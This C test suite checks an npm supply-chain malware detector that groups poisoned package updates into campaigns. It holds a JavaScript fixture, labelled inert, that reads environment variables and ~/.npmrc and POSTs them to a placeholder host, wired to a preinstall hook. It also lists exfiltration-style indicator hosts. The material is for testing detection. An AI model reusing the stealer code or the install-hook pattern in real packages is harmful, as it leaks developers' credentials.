/* Campaigns: what must not become one, what must, what a restart changes (nothing), and how bad rules and stores are met. */
#include "campaign/track.h"

#include <errno.h>
#include <stdio.h>
#include <unistd.h>

#include "base/hash.h"
#include "base/io.h"
#include "campaign/shared.h"
#include "campaign/sim.h"
#include "campaign/tell.h"
#include "event/event.h"
#include "observe/analyse.h"
#include "observe/imprint.h"
#include "observe/popular.h"
#include "observe/scan.h"
#include "store/versions.h"
#include "tarball.h"
#include "test.h"

#define START INT64_C(1767225600000)
#define HOUR  INT64_C(3600000)

struct place {
        char dir[64];
        struct qn_db db;
        struct qn_track *track;
        struct qn_arena a;
        struct qn_event_set set;
        struct qn_imprint imprint;
        struct qn_track_version v;
        struct qn_track_news news;
};

static void remove_store(const char *dir)
{
        static const char *const files[] = { "watch.db", "watch.db-wal", "watch.db-shm",
                                             "campaigns.yaml" };
        char path[128];

        for (size_t i = 0; i < QN_ARRAY_SIZE(files); i++) {
                snprintf(path, sizeof path, "%s/%s", dir, files[i]);
                unlink(path);
        }
        rmdir(dir);
}

static void place_done(struct place *p)
{
        qn_track_free(p->track);
        qn_db_close(&p->db);
        qn_arena_done(&p->a);
        remove_store(p->dir);
}

static void place_open(struct place *p)
{
        ASSERT_NOT_NULL(mkdtemp(p->dir));
        ASSERT_EQ(qn_db_open(&qn_db_watch, p->dir, true, &p->db, NULL), 0);
        ASSERT_EQ(qn_track_new(TEST_DATA, &p->track, NULL), 0);
}
#define PLACE(p)                                                                  \
        _cleanup_(place_done) struct place p = { .dir = "/tmp/qanat-test-XXXXXX", \
                                                 .a = QN_ARENA_INIT(1 << 20) };   \
        place_open(&p)

static int64_t number(struct qn_db *db, const char *sql)
{
        int64_t n = -1;

        ASSERT_EQ(qn_db_first(qn_db_prepare(db, sql), &n), 1);
        return n;
}

/* --- a version by hand --- */

static void begin(struct place *p, const char *name, const char *version, const char *publisher,
                  int64_t time)
{
        qn_arena_reset(&p->a, 1 << 20);
        qn_event_set_init(&p->set, &p->a);
        p->imprint = (struct qn_imprint){ .n_files = 0 };
        p->v = (struct qn_track_version){ .name = qn_str_c(name),
                                          .version = qn_str_c(version),
                                          .publisher = qn_str_c(publisher),
                                          .published = time,
                                          .imprint = &p->imprint,
                                          .set = &p->set };
}

static void event(struct place *p, enum qn_event_kind kind, enum qn_novelty fresh, const char *path,
                  enum qn_attr key, const char *value)
{
        struct qn_event e =
                qn_event_make(kind, QN_LAYER_STATIC,
                              path ? qn_event_set_file(&p->set, qn_str_c(path)) : QN_FILE_NONE);

        e.phase = QN_PHASE_INSTALL;
        e.fresh = (uint8_t)fresh;
        qn_event_attr(&e, key, qn_str_c(value));
        ASSERT_EQ(qn_event_add(&p->set, &e), 0);
}

static void file(struct place *p, const char *path, uint64_t content)
{
        p->imprint.files[p->imprint.n_files++] =
                (struct qn_imprint_file){ content, qn_hash64(path, strlen(path)) };
}

static void code(struct place *p, uint64_t seed)
{
        for (unsigned i = 0; i < QN_SKETCH_BINS; i++) {
                uint64_t v[2] = { seed, i };

                p->imprint.sketch.band[i / QN_SKETCH_ROWS] |= (1 + qn_hash64(v, sizeof v) % 255)
                                                              << 8 * (i % QN_SKETCH_ROWS);
        }
}

/* The same payload wherever it is put. */
static void payload(struct place *p, uint64_t content, const char *host)
{
        file(p, "setup.js", content);
        event(p, QN_EVENT_INSTALL_HOOK, QN_NOVELTY_KIND, NULL, QN_ATTR_COMMAND, "node setup.js");
        event(p, QN_EVENT_NET_SEND, QN_NOVELTY_KIND, "setup.js", QN_ATTR_HOST, host);
        event(p, QN_EVENT_ENV_ENUMERATE, QN_NOVELTY_KIND, "setup.js", QN_ATTR_HOW, "");
}

static int put(struct place *p)
{
        const struct qn_seen_put put = { .v = { .name = p->v.name,
                                                .version = p->v.version,
                                                .integrity = QN_STR("sha512-x"),
                                                .publisher = p->v.publisher,
                                                .published = p->v.published,
                                                .verdict = QN_STR("clean"),
                                                .reason = QN_STR("nothing found"),
                                                .rules = QN_STR("1") } };
        int r;

        if (p->v.set == &p->set)
                ASSERT_EQ(qn_event_set_seal(&p->set), 0);
        ASSERT_EQ(qn_db_begin(&p->db), 0);
        ASSERT_TRUE(qn_versions_put(&p->db, &put, &p->v.id) >= 0);
        r = qn_track_add(p->track, &p->db, &p->v, &p->news);
        ASSERT_EQ(qn_db_commit(&p->db), 0);
        return r;
}

/* An update of a package by its own people, with a payload. */
static int worm(struct place *p, unsigned i, uint64_t content, const char *host)
{
        char name[32], who[32];

        snprintf(name, sizeof name, "victim-%u", i);
        snprintf(who, sizeof who, "people-%u", i);
        begin(p, name, "1.0.1", who, START + i * (HOUR / 60));
        code(p, i);
        payload(p, content, host);
        return put(p);
}

static unsigned indicators(struct place *p)
{
        _cleanup_(qn_arena_done) struct qn_arena a = QN_ARENA_INIT(1 << 24);
        struct qn_campaign_rules *rules;
        struct qn_popular *popular;
        struct qn_trace t;
        unsigned n = 0;

        ASSERT_EQ(qn_event_set_seal(&p->set), 0);
        ASSERT_EQ(qn_campaign_rules_load(TEST_DATA, &a, &rules, NULL), 0);
        ASSERT_EQ(qn_popular_load(TEST_DATA, &a, &popular, NULL), 0);
        ASSERT_EQ(qn_trace_make(&p->v, rules, popular, &a, &t), 0);
        for (size_t i = 0; i < t.n; i++)
                n += t.features[i].kind == QN_FEATURE_INDICATOR;
        return n;
}

/* --- what is none --- */

TEST(an_ordinary_day_has_no_campaign)
{
        const struct sim_plan plan = { .data = TEST_DATA, .n = { 6000 } };
        char dir[] = "/tmp/qanat-test-XXXXXX";
        struct sim_result res;

        ASSERT_NOT_NULL(mkdtemp(dir));
        ASSERT_EQ(sim_run(&plan, dir, &res), 0);
        remove_store(dir);
        ASSERT_EQ(res.versions, 6000);
        ASSERT_EQ(res.campaigns, 0);
}

TEST(fewer_than_five_are_none)
{
        PLACE(p);
        for (unsigned i = 0; i < 4; i++)
                ASSERT_EQ(worm(&p, i, 99, "a.invalid"), 0);
        ASSERT_EQ(p.news.id[0], 0);
}

TEST(a_monorepo_that_gets_the_same_new_hook_is_none_while_it_does_nothing)
{
        PLACE(p);
        for (unsigned i = 0; i < 30; i++) {
                char name[32];

                snprintf(name, sizeof name, "@mono/part-%u", i);
                begin(&p, name, "2.0.0", "mono-bot", START + i * 1000);
                code(&p, i);
                file(&p, "postinstall.js", 5);
                event(&p, QN_EVENT_INSTALL_HOOK, QN_NOVELTY_KIND, NULL, QN_ATTR_COMMAND,
                      "node postinstall.js");
                ASSERT_EQ(put(&p), 0);
        }
}

TEST(installers_of_one_tool_are_none)
{
        PLACE(p);
        for (unsigned i = 0; i < 20; i++) {
                char name[32];

                snprintf(name, sizeof name, "@tool/cli-%u", i);
                begin(&p, name, "1.0.0", "tool", START);
                event(&p, QN_EVENT_META, QN_NOVELTY_NONE, NULL, QN_ATTR_WHAT, "first-version");
                file(&p, "setup.js", 5);
                event(&p, QN_EVENT_DOWNLOAD_RUN, QN_NOVELTY_NONE, "setup.js", QN_ATTR_HOST,
                      "dl.invalid");
                ASSERT_EQ(put(&p), 0);
        }
}

/* An update that gets a hook, or a dependency that it does not use; nothing else is known of it. */
static int adds(struct place *p, unsigned i, const char *scope, const char *who, bool dependency)
{
        char name[32];

        snprintf(name, sizeof name, "%spart-%u", scope, i);
        begin(p, name, "2.0.1", who, START + i * 1000);
        code(p, 3000 + i);
        if (dependency) {
                event(p, QN_EVENT_VERSION_DIFF, QN_NOVELTY_NONE, NULL, QN_ATTR_WHAT, "dependency");
                qn_event_attr(&p->set.events[0], QN_ATTR_NAME, QN_STR("left-behind"));
                qn_event_attr(&p->set.events[0], QN_ATTR_FLAGS, QN_STR("not-loaded"));
        } else {
                event(p, QN_EVENT_INSTALL_HOOK, QN_NOVELTY_KIND, NULL, QN_ATTR_COMMAND,
                      "node x.js");
        }
        return put(p);
}

TEST(a_family_of_nobody_knows_whom_is_none)
{
        PLACE(p);
        for (unsigned i = 0; i < 30; i++)
                ASSERT_EQ(adds(&p, i, "family-", NULL, i % 2), 0);
}

TEST(the_same_hook_or_dependency_of_several_owners_is_one)
{
        for (unsigned dependency = 0; dependency < 2; dependency++) {
                PLACE(p);
                for (unsigned i = 0; i < 6; i++) {
                        char who[16];

                        snprintf(who, sizeof who, "owner-%u", i % 4);
                        ASSERT_EQ(adds(&p, i, "", who, dependency), i >= 4);
                }
                ASSERT_EQ(p.news.verdict, QN_SUSPICIOUS);
                ASSERT_TRUE(qn_str_is(p.news.rule,
                                      dependency ? "spreading-dependency" : "spreading-hook"));
        }
}

TEST(the_same_hook_at_other_times_is_none)
{
        PLACE(p);
        for (unsigned i = 0; i < 12; i++) {
                char who[16];

                snprintf(who, sizeof who, "owner-%u", i);
                ASSERT_EQ(adds(&p, i * 7200, "", who, false), 0);
        }
}

TEST(versions_of_one_package_are_none)
{
        PLACE(p);
        for (unsigned i = 0; i < 30; i++) {
                char version[32];

                snprintf(version, sizeof version, "1.0.%u", i);
                begin(&p, "busy", version, "people", START + i * 1000);
                payload(&p, 99, "a.invalid");
                ASSERT_EQ(put(&p), 0);
        }
}

TEST(other_versions_of_a_victim_are_not_drawn_in)
{
        PLACE(p);
        begin(&p, "victim-3", "1.0.0", "people-3", START - HOUR);
        code(&p, 3);
        event(&p, QN_EVENT_META, QN_NOVELTY_NONE, NULL, QN_ATTR_WHAT, "first-version");
        ASSERT_EQ(put(&p), 0);
        for (unsigned i = 0; i < 8; i++)
                ASSERT_EQ(worm(&p, i, 99, "a.invalid"), i >= 4);
        begin(&p, "victim-5", "1.0.2", "people-5", START + HOUR);
        code(&p, 5);
        ASSERT_EQ(put(&p), 0);
}

/* --- what is one --- */

TEST(the_fifth_founds_it_and_all_are_raised)
{
        PLACE(p);
        for (unsigned i = 0; i < 4; i++)
                ASSERT_EQ(worm(&p, i, 99, "a.invalid"), 0);
        ASSERT_EQ(worm(&p, 4, 99, "a.invalid"), 1);
        ASSERT_TRUE(p.news.founded && !p.news.worsened && !p.news.grew);
        ASSERT_EQ(p.news.verdict, QN_MALICIOUS);
        ASSERT_STR(p.news.rule, "spreading-addition");
        ASSERT_EQ(p.news.packages, 5);
        ASSERT_EQ(p.news.n_raise, 5);
        ASSERT_EQ(worm(&p, 5, 99, "a.invalid"), 1);
        ASSERT_TRUE(!p.news.founded && p.news.n_raise == 1 && p.news.raise[0] == p.v.id);
        for (unsigned i = 6; i < 10; i++)
                ASSERT_EQ(worm(&p, i, 99, "a.invalid"), 1);
        ASSERT_TRUE(p.news.grew);
}

TEST(a_payload_that_is_written_anew_is_known_by_what_it_does)
{
        PLACE(p);
        for (unsigned i = 0; i < 6; i++)
                ASSERT_EQ(worm(&p, i, 1000 + i, "a.invalid"), i >= 4);
}

TEST(a_version_is_taken_once)
{
        PLACE(p);
        for (unsigned i = 0; i < 5; i++)
                (void)worm(&p, i, 99, "a.invalid");
        ASSERT_EQ(worm(&p, 4, 99, "a.invalid"), 1); /* its events may have been written anew */
        ASSERT_TRUE(!p.news.founded && p.news.n_raise == 1 && p.news.raise[0] == p.v.id);
        ASSERT_EQ(qn_track_count(p.track), 5);
        begin(&p, "alone", "1.0.1", "somebody", START);
        ASSERT_EQ(put(&p), 0);
        begin(&p, "alone", "1.0.1", "somebody", START);
        ASSERT_EQ(put(&p), 0);
        ASSERT_EQ(qn_track_count(p.track), 6);
}

/* Nothing could be fetched at first: what is known of it later counts, and stays. */
TEST(what_is_known_later_of_a_version_takes_the_place_of_what_was)
{
        char id[QN_CAMPAIGN_ID_BYTES];

        PLACE(p);
        for (unsigned i = 0; i < 6; i++) {
                char name[32];

                snprintf(name, sizeof name, "victim-%u", i);
                begin(&p, name, "1.0.1", "people", START + i * (HOUR / 60));
                p.v.imprint = NULL;
                p.v.set = NULL;
                ASSERT_EQ(put(&p), 0);
        }
        for (unsigned i = 0; i < 6; i++)
                ASSERT_EQ(worm(&p, i, 99, "a.invalid"), i >= 4);
        ASSERT_EQ(p.news.verdict, QN_MALICIOUS);
        memcpy(id, p.news.id, sizeof id);
        ASSERT_EQ(qn_track_load(p.track, &p.db), 0);
        ASSERT_EQ(qn_track_count(p.track), 6);
        ASSERT_EQ(worm(&p, 6, 99, "a.invalid"), 1);
        ASSERT_EQ(strcmp(p.news.id, id), 0);
        ASSERT_EQ(p.news.packages, 7);
}

/* --- what innocents share with a bait --- */

/* A package that was made to be given up: what somebody else has, and a payload. */
static int bait(struct place *p, unsigned i)
{
        char name[32], who[32];

        snprintf(name, sizeof name, "bait-%u", i);
        snprintf(who, sizeof who, "mule-%u", i);
        begin(p, name, "1.0.0", who, START + HOUR + i * 1000);
        event(p, QN_EVENT_META, QN_NOVELTY_NONE, NULL, QN_ATTR_WHAT, "first-version");
        code(p, 7);
        file(p, "install.js", 77);
        event(p, QN_EVENT_INSTALL_HOOK, QN_NOVELTY_NONE, NULL, QN_ATTR_TARGET, "install.js");
        file(p, "thief.js", 99);
        event(p, QN_EVENT_NET_SEND, QN_NOVELTY_NONE, "thief.js", QN_ATTR_HOST, "a.invalid");
        event(p, QN_EVENT_ENV_ENUMERATE, QN_NOVELTY_NONE, "thief.js", QN_ATTR_HOW, "");
        event(p, QN_EVENT_SECRET_READ, QN_NOVELTY_NONE, "thief.js", QN_ATTR_WHICH, "npmrc");
        p->v.verdict = QN_MALICIOUS;
        return put(p);
}

enum { PLAIN, BORN, GROWN };

/* A version of whom they copied.  BORN: its first one; GROWN: it downloads something now. */
static int origin(struct place *p, const char *name, const char *version, unsigned how)
{
        begin(p, name, version, "people", START);
        if (how == BORN)
                event(p, QN_EVENT_META, QN_NOVELTY_NONE, NULL, QN_ATTR_WHAT, "first-version");
        code(p, 7);
        file(p, "install.js", 77);
        event(p, QN_EVENT_INSTALL_HOOK, QN_NOVELTY_NONE, NULL, QN_ATTR_TARGET, "install.js");
        if (how == GROWN)
                event(p, QN_EVENT_DOWNLOAD_RUN, QN_NOVELTY_KIND, "install.js", QN_ATTR_HOST,
                      "dl.invalid");
        return put(p);
}

static void baits(struct place *p)
{
        for (unsigned i = 0; i < 8; i++)
                ASSERT_EQ(bait(p, i), i >= 4);
        ASSERT_STR(p->news.rule, "condemned-family");
        ASSERT_EQ(p->news.packages, 8);
}

TEST(who_had_first_what_a_bait_has_is_not_raised)
{
        static const char *const names[] = { "esbuild", "@nobody/knows-it" };

        for (size_t i = 0; i < QN_ARRAY_SIZE(names); i++) {
                PLACE(p);
                ASSERT_EQ(origin(&p, names[i], "1.0.0", i ? BORN : PLAIN), 0);
                ASSERT_EQ(origin(&p, names[i], "1.0.1", PLAIN), 0);
                baits(&p);
                ASSERT_EQ(origin(&p, names[i], "1.0.2", PLAIN), 0);
                ASSERT_EQ(origin(&p, names[i], "1.1.0", GROWN), 0);
                ASSERT_EQ(qn_track_load(p.track, &p.db), 0);
                ASSERT_EQ(origin(&p, names[i], "1.1.1", PLAIN), 0);
        }
}

/* New packages that download at their installation, as tools do, and others that do as much and copied that. */
static int tool(struct place *p, unsigned i, const char *owner, int64_t time)
{
        char name[32];

        snprintf(name, sizeof name, "%s-cli-%u", owner, i);
        begin(p, name, "1.0.0", owner, time);
        event(p, QN_EVENT_META, QN_NOVELTY_NONE, NULL, QN_ATTR_WHAT, "first-version");
        code(p, 7);
        file(p, "install.js", 77);
        event(p, QN_EVENT_DOWNLOAD_RUN, QN_NOVELTY_NONE, "install.js", QN_ATTR_HOST, "dl.invalid");
        event(p, QN_EVENT_NET_SEND, QN_NOVELTY_NONE, "install.js", QN_ATTR_HOST, "dl.invalid");
        return put(p);
}

TEST(a_new_tool_that_others_copy_is_not_raised)
{
        char who[16];

        PLACE(p);
        for (unsigned i = 0; i < 3; i++)
                ASSERT_EQ(tool(&p, i, "maker", START), 0);
        for (unsigned i = 0; i < 12; i++) {
                snprintf(who, sizeof who, "mule-%u", i);
                (void)tool(&p, i, who, START + 3 * HOUR + i * 1000);
        }
        ASSERT_STR(p.news.rule, "many-accounts");
        ASSERT_EQ(p.news.packages, 12);
        ASSERT_EQ(tool(&p, 3, "maker", START + 4 * HOUR), 0);
        ASSERT_EQ(qn_track_load(p.track, &p.db), 0);
        ASSERT_EQ(tool(&p, 4, "maker", START + 4 * HOUR), 0);
        ASSERT_EQ(number(&p.db, "SELECT count(*) FROM campaign_member m JOIN version v"
                                " ON v.id = m.version WHERE v.publisher = 'maker'"),
                  0);
}

/* What it was before was not seen, or only its first version; or the bait was seen first. */
TEST(who_is_seen_after_a_bait_is_not_raised)
{
        for (unsigned how = PLAIN; how <= GROWN; how++) {
                PLACE(p);
                if (how == BORN)
                        ASSERT_EQ(origin(&p, "original", "1.0.0", BORN), 0);
                for (unsigned i = 0; i < 8; i++)
                        ASSERT_EQ(bait(&p, i), i >= 4 - (how == BORN));
                ASSERT_EQ(origin(&p, "@other/original", "1.0.1", PLAIN), 0);
                ASSERT_EQ(origin(&p, "fork-of-it", "1.0.0", BORN), 0);
                ASSERT_EQ(origin(&p, "fork-of-it", "1.0.1", PLAIN), 0);
        }
}

TEST(a_popular_package_is_at_most_suspicious)
{
        unsigned made = 0;

        PLACE(p);
        for (unsigned i = 0; i < 8; i++) {
                char name[32], who[32];

                snprintf(name, sizeof name, i == 4 ? "esbuild" : "victim-%u", i);
                snprintf(who, sizeof who, "people-%u", i);
                begin(&p, name, "9.0.1", who, START + i * 1000);
                payload(&p, 99, "a.invalid");
                made += put(&p) > 0;
        }
        ASSERT_EQ(made, 4);
        ASSERT_STR(p.news.rule, "spreading-addition");
        ASSERT_EQ(number(&p.db, "SELECT count(*) FROM campaign_member WHERE verdict = 'malicious'"),
                  7);
        ASSERT_EQ(
                number(&p.db, "SELECT count(*) FROM campaign_member WHERE verdict = 'suspicious'"),
                1);
}

/* Whoever makes packages only to have somebody convicted has made them lately. */
TEST(new_packages_do_not_make_an_addition_one_that_spreads)
{
        PLACE(p);
        for (unsigned version = 0; version < 2; version++) {
                for (unsigned i = 0; i < 9; i++) {
                        char name[32], who[32];

                        snprintf(name, sizeof name, "made-%u", i);
                        snprintf(who, sizeof who, "mule-%u", i);
                        begin(&p, name, version ? "1.0.1" : "1.0.0", who, START + i * 1000);
                        if (version)
                                payload(&p, 99, "a.invalid");
                        else
                                event(&p, QN_EVENT_META, QN_NOVELTY_NONE, NULL, QN_ATTR_WHAT,
                                      "first-version");
                        (void)put(&p);
                }
        }
        ASSERT_EQ(worm(&p, 1, 99, "a.invalid"), 1);
        ASSERT_EQ(p.news.verdict, QN_SUSPICIOUS);
}

/* --- what a person ended --- */

static void dismiss(struct place *p, const char *verdict)
{
        const struct qn_campaign_dismissal d = { START, QN_STR("ada"), QN_STR("a house style"),
                                                 qn_str_c(verdict) };

        ASSERT_EQ(qn_db_begin(&p->db), 0);
        ASSERT_EQ(qn_campaigns_dismiss(&p->db, qn_str_c(p->news.id), &d), 0);
        ASSERT_EQ(qn_db_commit(&p->db), 0);
}

TEST(what_was_dismissed_is_told_no_more_and_not_founded_again)
{
        PLACE(p);
        for (unsigned i = 0; i < 6; i++)
                (void)worm(&p, i, 99, "a.invalid");
        dismiss(&p, "malicious");
        for (unsigned i = 6; i < 30; i++) {
                ASSERT_EQ(worm(&p, i, 99, "a.invalid"), 0);
                if (i == 15)
                        ASSERT_EQ(qn_track_load(p.track, &p.db), 0);
        }
        ASSERT_EQ(number(&p.db, "SELECT count(*) FROM campaign"), 1);
        ASSERT_EQ(number(&p.db, "SELECT count(*) FROM campaign_member"), 6);
        qn_event_set_init(&p.set, &p.a);
        ASSERT_EQ(qn_campaign_tell(&p.db, 1, &p.set), 0);
        ASSERT_TRUE(qn_db_exec(&p.db, "UPDATE campaign_dismissal SET reason = 'x'") < 0);
        ASSERT_TRUE(qn_db_exec(&p.db, "DELETE FROM campaign_dismissal") < 0);
}

TEST(what_was_dismissed_is_one_again_when_it_is_worse)
{
        int made;

        PLACE(p);
        for (unsigned i = 0; i < 5; i++) {
                char who[16];

                snprintf(who, sizeof who, "owner-%u", i % 4);
                ASSERT_EQ(adds(&p, i, "", who, false), i >= 4);
        }
        ASSERT_EQ(p.news.verdict, QN_SUSPICIOUS);
        dismiss(&p, "suspicious");
        for (unsigned i = 5; i < 30 && !p.news.worsened; i++) {
                char name[32], who[16];

                snprintf(name, sizeof name, "part-%u", i);
                snprintf(who, sizeof who, "owner-%u", i);
                begin(&p, name, "2.0.1", who, START + i * 1000);
                event(&p, QN_EVENT_INSTALL_HOOK, QN_NOVELTY_KIND, NULL, QN_ATTR_COMMAND,
                      "node x.js");
                event(&p, QN_EVENT_NET_SEND, QN_NOVELTY_KIND, "x.js", QN_ATTR_HOST, "a.invalid");
                made = put(&p);
                ASSERT_EQ(made, p.news.worsened);
        }
        ASSERT_TRUE(p.news.worsened && p.news.verdict == QN_MALICIOUS);
        ASSERT_EQ(p.news.packages, 25);
        ASSERT_EQ(p.news.n_raise, 25);
}

/* One that is no campaign any more takes no part of another with it. */
TEST(one_that_joins_what_was_dismissed_stays_one)
{
        char first[QN_CAMPAIGN_ID_BYTES];

        PLACE(p);
        for (unsigned i = 0; i < 5; i++)
                (void)worm(&p, i, 99, "a.invalid");
        memcpy(first, p.news.id, sizeof first);
        dismiss(&p, "malicious");
        for (unsigned i = 200; i < 205; i++)
                (void)worm(&p, i, 98, "b.invalid");
        assert_string_not_equal(first, p.news.id);
        for (unsigned again = 0; again < 2; again++) {
                begin(&p, again ? "both" : "between", "1.0.1", "somebody", START + 10 * HOUR);
                file(&p, "other.js", 98);
                event(&p, QN_EVENT_FILE_READ, QN_NOVELTY_KIND, "other.js", QN_ATTR_PATH, "x");
                payload(&p, 99, "a.invalid");
                ASSERT_EQ(put(&p), 1);
                assert_string_not_equal(first, p.news.id);
                ASSERT_EQ(p.news.packages, 6 + again);
                ASSERT_EQ(qn_track_load(p.track, &p.db), 0);
        }
        ASSERT_EQ(number(&p.db, "SELECT count(*) FROM campaign WHERE joined IS NULL"), 2);
        ASSERT_EQ(number(&p.db, "SELECT count(DISTINCT campaign) FROM campaign_member"), 2);
        ASSERT_EQ(number(&p.db, "SELECT count(*) FROM campaign_member"), 12);
}

TEST(the_judge_is_told)
{
        struct qn_str how, count;

        PLACE(p);
        for (unsigned i = 0; i < 7; i++)
                (void)worm(&p, i, 99, "a.invalid");
        qn_arena_reset(&p.a, 1 << 20);
        qn_event_set_init(&p.set, &p.a);
        ASSERT_EQ(qn_campaign_tell(&p.db, 777, &p.set), 0);
        ASSERT_EQ(qn_campaign_tell(&p.db, p.v.id, &p.set), 1);
        ASSERT_EQ(p.set.n, 1);
        how = qn_event_get(&p.set.events[0], QN_ATTR_HOW);
        count = qn_event_get(&p.set.events[0], QN_ATTR_COUNT);
        ASSERT_STR(how, "malicious");
        ASSERT_STR(count, "5");
}

TEST(two_that_turn_out_to_be_one_keep_the_first_id)
{
        char first[QN_CAMPAIGN_ID_BYTES], second[QN_CAMPAIGN_ID_BYTES];
        struct qn_campaign c;

        PLACE(p);
        for (unsigned i = 0; i < 5; i++)
                (void)worm(&p, i, 99, "a.invalid");
        memcpy(first, p.news.id, sizeof first);
        for (unsigned i = 200; i < 205; i++)
                (void)worm(&p, i, 98, "b.invalid");
        memcpy(second, p.news.id, sizeof second);
        assert_string_not_equal(first, second);
        begin(&p, "both", "1.0.1", "somebody", START + 10 * HOUR);
        file(&p, "other.js", 98);
        event(&p, QN_EVENT_FILE_READ, QN_NOVELTY_KIND, "other.js", QN_ATTR_PATH, "x");
        payload(&p, 99, "a.invalid");
        ASSERT_EQ(put(&p), 1);
        ASSERT_EQ(strcmp(p.news.id, first), 0);
        ASSERT_EQ(p.news.packages, 11);
        ASSERT_EQ(qn_campaigns_find(&p.db, qn_str_c(second), &p.a, &c), 0);
        ASSERT_STR(c.id, first);
        ASSERT_EQ(c.packages, 11);
        ASSERT_EQ(qn_track_load(p.track, &p.db), 0);
        ASSERT_EQ(worm(&p, 206, 98, "b.invalid"), 1);
        ASSERT_EQ(strcmp(p.news.id, first), 0);
}

TEST(what_is_held_in_memory_has_a_limit_and_campaigns_stay)
{
        char id[QN_CAMPAIGN_ID_BYTES];
        unsigned i = 0;

        PLACE(p);
        qn_track_limit(p.track, 50, 20);
        ASSERT_EQ(qn_track_load(p.track, &p.db), 0);
        for (; i < 50; i++)
                (void)worm(&p, i, 99, "a.invalid");
        memcpy(id, p.news.id, sizeof id);
        ASSERT_EQ(qn_track_count(p.track), 50);
        ASSERT_EQ(worm(&p, i++, 99, "a.invalid"), 1);
        ASSERT_EQ(qn_track_count(p.track), 21);
        for (; i < 200; i++) {
                ASSERT_EQ(worm(&p, i, 99, "a.invalid"), 1);
                ASSERT_TRUE(qn_track_count(p.track) <= 50);
                ASSERT_EQ(strcmp(p.news.id, id), 0);
        }
}

static const struct sim_plan day = { .data = TEST_DATA, .n = { 2000, 60, 600, 40, 16, 20, 40 } };

TEST(campaigns_of_a_day_are_found_and_a_restart_changes_nothing)
{
        struct sim_plan plan = day;
        struct sim_result res, again;
        char dir[] = "/tmp/qanat-test-XXXXXX", other[] = "/tmp/qanat-test-XXXXXX";

        ASSERT_NOT_NULL(mkdtemp(dir));
        ASSERT_NOT_NULL(mkdtemp(other));
        ASSERT_EQ(sim_run(&plan, dir, &res), 0);
        plan.restart_at = 1400;
        ASSERT_EQ(sim_run(&plan, other, &again), 0);
        remove_store(dir);
        remove_store(other);
        ASSERT_EQ(res.campaigns, 5);
        ASSERT_EQ(res.found[SIM_COPIED].total, 40);
        for (unsigned k = SIM_WORM; k < SIM_COPIED; k++) {
                const struct sim_found *f = &res.found[k];

                print_message("# %s: minute %.1f, %zu of %zu published by then, %zu inside (%s)\n",
                              sim_names[k], f->minutes, f->by_then, f->total, f->inside, f->rule);
                ASSERT_EQ(f->campaigns, 1);
                ASSERT_EQ(f->others, 0);
                ASSERT_TRUE(f->by_then <= 70);
                ASSERT_TRUE(f->inside + 62 >= f->total);
        }
        ASSERT_TRUE(res.found[SIM_WORM].by_then <= 5);
        ASSERT_EQ(res.found[SIM_WORM].inside, 60);
        ASSERT_EQ(again.load_n, 1400);
        ASSERT_TRUE(again.digest == res.digest);
}

TEST(steps_of_growth)
{
        static const uint32_t is[][2] = { { 0, 0 },   { 4, 0 },     { 5, 5 },      { 9, 5 },
                                          { 10, 10 }, { 19, 10 },   { 20, 20 },    { 199, 100 },
                                          { 50, 50 }, { 999, 500 }, { 1000, 1000 } };

        for (size_t i = 0; i < QN_ARRAY_SIZE(is); i++)
                ASSERT_EQ(qn_track_step(is[i][0]), is[i][1]);
        ASSERT_EQ(qn_track_step(UINT32_MAX), 2000000000);
}

TEST(what_stands_for_one_maker)
{
        static const struct {
                enum qn_event_kind kind;
                const char *class, *host, *url;
                unsigned n;
        } is[] = {
                { QN_EVENT_URL_LITERAL, "", "a.invalid", "https://a.invalid/x", 0 },
                { QN_EVENT_URL_LITERAL, "request-bin", "webhook.site", "https://webhook.site/1",
                  1 },
                { QN_EVENT_NET_SEND, "", "github.com", "https://github.com/x", 0 },
                { QN_EVENT_NET_SEND, "", "api.github.com", "https://api.github.com/x", 0 },
                { QN_EVENT_NET_SEND, "", "notgithub.com", "https://notgithub.com/x", 1 },
                { QN_EVENT_NET_SEND, "worker", "x.workers.dev", "https://x.workers.dev/", 1 },
                { QN_EVENT_NET_SEND, "ip-lookup", "ipinfo.io", "https://ipinfo.io/json", 0 },
                { QN_EVENT_NET_SEND, "paste", "pastebin.com", "https://pastebin.com/2", 1 },
        };

        PLACE(p);
        for (size_t i = 0; i < QN_ARRAY_SIZE(is); i++) {
                char version[16];

                snprintf(version, sizeof version, "1.0.%zu", i);
                begin(&p, "one", version, NULL, START);
                event(&p, is[i].kind, QN_NOVELTY_KIND, "x.js", QN_ATTR_HOST, is[i].host);
                qn_event_attr(&p.set.events[0], QN_ATTR_URL, qn_str_c(is[i].url));
                qn_event_attr(&p.set.events[0], QN_ATTR_CLASS, qn_str_c(is[i].class));
                ASSERT_EQ(indicators(&p), is[i].n);
        }
}

/* --- with archives --- */

static void pack(struct qn_buf *b, unsigned i, const char *version, const char *hook,
                 const char *added)
{
        _cleanup_(qn_buf_done) struct qn_buf text = QN_BUF_INIT(1 << 16);

        qn_buf_printf(&text, "{\"name\":\"victim-%u\",\"version\":\"%s\"%s}", i, version, hook);
        tb_file(b, "package/package.json", text.p);
        qn_buf_reset(&text);
        for (unsigned k = 0; k < 40; k++)
                qn_buf_printf(&text, "exports.f%u = (x) => x.p%u + %u;\n", k * i, k, i);
        tb_file(b, "package/index.js", text.p);
        if (added)
                tb_file(b, "package/bundle.js", added);
        qn_buf_fill(b, 0, 1024);
}

static const char inert[] =
        "if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
        "const loot = JSON.stringify(process.env) +\n"
        "  require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
        "const q = require('https').request({ host: 'collect.worm.invalid', method: 'POST' });\n"
        "q.write(loot); q.end();\n";

static int update(struct place *p, struct qn_analyser *an, unsigned i, bool bad)
{
        _cleanup_(qn_buf_done) struct qn_buf before = QN_BUF_INIT(1 << 20),
                                             now = QN_BUF_INIT(1 << 20);
        struct qn_analyse_in in = { .imprint = true };
        char name[32], who[32];

        pack(&before, i, "1.0.0", "", NULL);
        pack(&now, i, "1.0.1", bad ? ",\"scripts\":{\"preinstall\":\"node ./bundle.js\"}" : "",
             bad ? inert : NULL);
        in.archive = qn_cur_mem(now.p, now.n);
        in.previous = qn_cur_mem(before.p, before.n);
        snprintf(name, sizeof name, "victim-%u", i);
        snprintf(who, sizeof who, "people-%u", i);
        begin(p, name, "1.0.1", who, START + i * 60000);
        ASSERT_EQ(qn_analyse(an, &in, &p->v.set), 0);
        p->v.imprint = qn_analyser_imprint(an);
        return put(p);
}

TEST(archives_that_a_payload_was_put_into)
{
